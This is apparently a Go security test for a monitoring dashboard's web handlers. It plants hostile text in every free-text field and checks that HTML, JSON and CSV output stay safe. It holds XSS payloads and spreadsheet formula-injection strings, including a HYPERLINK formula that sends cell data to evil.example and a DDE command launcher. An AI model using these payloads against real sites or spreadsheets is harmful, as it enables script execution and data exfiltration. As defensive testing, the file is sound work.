package web_test

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
	"unsafe"

	holdfast "github.com/holdfast-monitor/holdfast"
)

// everywhere are the texts that are put everywhere; each script would set a mark
// that the browser is asked for.
var everywhere = map[string]string{
	"running": `</title></textarea></script><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2"><svg onload="window.__pwned=3">` +
		`" autofocus onfocus="window.__pwned=4" x="'><iframe srcdoc="<script>parent.__pwned=5</script>"></iframe><a href="javascript:window.__pwned=6">{{.}}`,
	"control": hostile["ansi"] + hostile["turning"],
	"long":    hostile["long"],
}

// formulas are what a spreadsheet would run.
var formulas = []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+1+cmd|' /C calc'!A0", "@SUM(1+1)\t=1", "-2+3\r\n=1", "\t=1", " =1"}

// poisoned is an estate in which a text stands in every field that is free text,
// wherever a person, a catalogue or an agent can bring it in. It is found by
// looking: every string of a type of the root package that the estate holds. The
// names that lead from one thing to another stay; the catalogue's reader lets
// nothing else be a name.
func poisoned(t testing.TB, bad string) *estate {
	t.Helper()
	e := newEstate(t, at(noon), troubled(noon))
	e.notices = append(e.notices, holdfast.Notice{Text: "x", Since: noon})
	e.agents[0].Connected = false
	e.agents[0].Plugins, e.agents[0].Refused = []holdfast.PluginHealth{{Name: "x", Problem: "x"}}, []string{"x"}
	e.records = append(e.records,
		holdfast.Record{ID: "000001", At: noon, Kind: holdfast.Change, Service: "payments", By: "x", Reason: "x", People: []string{"x"}},
		holdfast.Record{ID: "000002", At: noon, Kind: holdfast.Acceptance, Service: "payments", By: "x", Reason: "x", Need: "x", Approver: "x", Until: noon.AddDate(1, 0, 0)})
	for i := range e.postures {
		e.postures[i] = clonePosture(e.postures[i])
		e.postures[i].Acceptances = []holdfast.AcceptedRisk{{Need: "x", By: "x", Approver: "x", Reason: "x"}}
		e.postures[i].Maintenance = []holdfast.Window{{By: "x", Reason: "x", From: noon, Until: noon.Add(time.Hour)}}
		e.postures[i].Looser = []holdfast.LooserTerm{{Term: "x", Was: "x", Is: "x", By: "x", At: noon}}
	}
	p := poisoner{text: bad, seen: map[uintptr]bool{}, keep: map[string]bool{"": true}}
	for i := range e.catalogue.Services {
		s := &e.catalogue.Services[i]
		p.keep[s.Name], p.keep[s.Site] = true, true
		for _, path := range s.Paths {
			p.keep[path.Name] = true
		}
	}
	for i := range e.drills {
		p.keep[e.drills[i].ID] = true
	}
	p.keep[e.bookings[0].ID] = true
	for k := range e.catalogue.Checks {
		p.keep[k.ID], p.keep[k.On] = true, true
	}
	p.walk(reflect.ValueOf(e).Elem(), false)
	return e
}

type poisoner struct {
	text string
	keep map[string]bool // names
	seen map[uintptr]bool
	hits int
}

var rootPackage = reflect.TypeFor[holdfast.Posture]().PkgPath()

// walk poisons every plain string within values of the root package's types.
// Strings of a type of their own are closed lists: nothing else ever stands there.
func (p *poisoner) walk(v reflect.Value, inside bool) {
	if v.CanAddr() && !v.CanSet() {
		v = reflect.NewAt(v.Type(), unsafe.Pointer(v.UnsafeAddr())).Elem() // a field of the test's own
	}
	switch v.Kind() {
	case reflect.Pointer:
		if !v.IsNil() && !p.seen[v.Pointer()] {
			p.seen[v.Pointer()] = true
			p.walk(v.Elem(), inside)
		}
	case reflect.Struct:
		root := v.Type().PkgPath() == rootPackage
		if !root && v.Type().PkgPath() != reflect.TypeFor[estate]().PkgPath() {
			return // time, locks, the judge's own books
		}
		for i := range v.NumField() {
			if v.Type().Field(i).Name != "Link" { // which the collector makes
				p.walk(v.Field(i), root)
			}
		}
	case reflect.Slice, reflect.Array:
		for i := range v.Len() {
			p.walk(v.Index(i), inside)
		}
	case reflect.Map:
		for _, key := range v.MapKeys() {
			was := v.MapIndex(key)
			is := reflect.New(was.Type()).Elem()
			is.Set(was)
			p.walk(is, inside)
			v.SetMapIndex(key, is)
		}
	case reflect.String:
		if inside && v.Type() == reflect.TypeFor[string]() && !p.keep[v.String()] {
			v.SetString(p.text)
			p.hits++
		}
	}
}

// addresses are everything that can be read: the pages that are shown, every row
// of the table of routes, every operation.
func addresses(t testing.TB, h http.Handler) []string {
	all := []string{}
	for _, p := range shownPages {
		all = append(all, p.path)
	}
	for _, r := range routes {
		if r.method == "GET" && !strings.HasSuffix(r.target, "/events") {
			all = append(all, r.target)
		}
	}
	for _, p := range newContract(t, h).promises() {
		if p.Method == "GET" && !p.streams() {
			all = append(all, p.target(t, ""))
		}
	}
	slices.Sort(all)
	return slices.Compact(all)
}

// TestHostileEverywhere: whatever stands in a text, every page, answer and table
// there is stays what it is.
func TestHostileEverywhere(t *testing.T) {
	for name, bad := range everywhere {
		t.Run(name, func(t *testing.T) {
			h := handler(t, poisoned(t, bad))
			for _, target := range addresses(t, h) {
				if name == "long" && strings.HasPrefix(target, "/api/") {
					continue // the API clips nothing: hundreds of MiB a list, with nothing to learn
				}
				resp := ask(t, h, "admin", "GET", target, "")
				body := text(t, resp)
				if resp.StatusCode >= 500 {
					t.Errorf("%s: got %d: %.300s", target, resp.StatusCode, body)
				}
				holdHostile(t, target, resp, body)
			}
		})
	}
	for _, bad := range formulas {
		h := handler(t, poisoned(t, bad))
		for _, target := range addresses(t, h) {
			if strings.Contains(target, "csv") {
				resp := ask(t, h, "admin", "GET", target, "")
				holdHostile(t, target, resp, text(t, resp))
			}
		}
	}
}

// unseen are characters that drive a terminal or turn the direction of writing.
var unseen = regexp.MustCompile(`[\x00-\x08\x0b-\x1f\x7f\x{80}-\x{9f}\x{202a}-\x{202e}\x{2066}-\x{2069}\x{200e}\x{200f}\x{061c}]`)

func holdHostile(t *testing.T, target string, resp *http.Response, body string) {
	t.Helper()
	if len(body) > 4<<20 {
		t.Errorf("%s: %d bytes: a text is not clipped", target, len(body))
	}
	if !utf8.ValidString(body) {
		t.Errorf("%s: not UTF-8", target)
	}
	form, _, _ := strings.Cut(resp.Header.Get("Content-Type"), ";")
	if i := unseen.FindStringIndex(strings.ReplaceAll(body, "\r\n", "\n")); i != nil && form != "text/javascript" {
		t.Errorf("%s: %s with a raw control character: %q", target, form, body[max(0, i[0]-60):min(len(body), i[0]+20)])
	}
	switch form {
	case "text/html":
		harmless(t, target, body)
	case "application/json", "application/problem+json":
		if !json.Valid([]byte(body)) {
			t.Errorf("%s: no JSON: %.100s", target, body)
		}
	case "text/csv":
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
		if err != nil {
			t.Errorf("%s: no CSV: %v", target, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %.60q is a formula", target, cell)
				}
			}
		}
	}
}

// TestPoisonReaches: the texts do get where they are looked for, and a page that
// wrote one as it is would be found.
func TestPoisonReaches(t *testing.T) {
	h := handler(t, poisoned(t, "<i>poison</i>"))
	for _, target := range []string{"/", "/services/payments", "/agents", "/data", "/api/v1/status", "/api/v1/records", "/api/v1/agents", "/api/v1/changes"} {
		if body := text(t, ask(t, h, "admin", "GET", target, "")); !strings.Contains(body, "poison") {
			t.Errorf("%s shows nothing of the texts", target)
		}
	}
}
